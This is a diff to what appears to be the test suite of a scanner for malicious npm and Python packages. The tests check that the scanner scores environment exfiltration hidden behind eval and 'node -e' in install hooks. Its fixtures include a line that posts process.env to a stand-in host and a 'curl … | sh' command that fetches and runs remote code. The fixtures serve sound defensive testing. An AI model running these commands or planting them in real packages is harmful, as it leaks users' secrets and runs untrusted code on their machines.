@@ -1626,6 +1626,17 @@ setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
     expect(facts.files.map((f) => f.path).filter((p) => p.includes('[program'))).toEqual(['setup.py [program run at line 1]'])
   })
 
+  it('analyses JavaScript handed to eval and to node -e as a file of its own, run with its launch', async () => {
+    const SEND_ENV = `require('https').request({ hostname: 'collect.example.net', method: 'POST' }).end(JSON.stringify(process.env))`
+    const evaluated = await npm({ 'x.js': `const code = ${JSON.stringify(SEND_ENV)}\neval(code)\n` }, postinstall('node x.js'))
+    expect(scoring(evaluated, 'exfiltrates-environment')).toMatchObject({ file: 'x.js [program run at line 2]', weight: 100 })
+    const started = await npm({ 'x.js': `require('child_process').exec(${JSON.stringify(`node -e "${SEND_ENV.replace(/"/g, '\\"')}"`)})\n` }, postinstall('node x.js'))
+    expect(scoring(started, 'exfiltrates-environment')).toMatchObject({ file: 'x.js [program run at line 1]', weight: 100 })
+    // the same eval in a module nothing runs at install or load weighs as run-time code
+    const idle = await npm({ 'lib/x.js': `function later() {\n  eval(${JSON.stringify(SEND_ENV)})\n}\nmodule.exports = later\n` })
+    expect(scoring(idle, 'exfiltrates-environment')).toMatchObject({ file: 'lib/x.js [program run at line 2]', weight: 70 })
+  })
+
   it('bounds the programs a hostile package carries: parsed up to a budget, the rest scanned as text', async () => {
     // 5 files of 8 programs of ~120 KB each: more programs, and more program source, than a package may parse
     const big = `import os\nos.system('curl -s http://203.0.113.9/x | sh')\n${'x = 1\n'.repeat(20_000)}`
